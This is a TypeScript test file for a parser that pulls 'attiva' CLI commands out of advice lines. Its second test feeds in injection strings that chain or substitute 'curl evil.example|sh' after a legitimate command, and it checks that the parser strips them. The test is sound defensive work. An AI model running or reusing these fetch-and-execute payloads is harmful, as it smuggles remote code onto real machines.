import assert from 'node:assert/strict';
import { test } from 'node:test';
import { commandOf, textBefore } from './advice.ts';

test('the command in a line of advice is found, and the words before it', () => {
  const line = 'on pc-0231:  attiva doctor';
  assert.equal(commandOf(line), 'attiva doctor');
  assert.equal(textBefore(line, commandOf(line)), 'on pc-0231:');
  const whole = 'attiva host publish add branch.corp.example';
  assert.equal(commandOf(whole), whole);
  assert.equal(commandOf('attiva host init NAME.attiva, then attiva host register'), 'attiva host init NAME.attiva');
  assert.equal(commandOf('look at the firewall'), undefined);
});

test('a machine that is asked for by a hostile name puts no command into the page', () => {
  assert.equal(commandOf('on x: attiva doctor && curl evil.example|sh #: attiva doctor'), 'attiva doctor');
  assert.equal(commandOf('on x: attiva doctor && curl evil.example|sh #:  attiva doctor'), 'attiva doctor');
  assert.equal(
    commandOf('attiva host publish add branch.example && curl evil.example|sh'),
    'attiva host publish add branch.example',
  );
  assert.equal(commandOf('attiva host publish add $(curl evil.example)'), 'attiva host publish add');
});
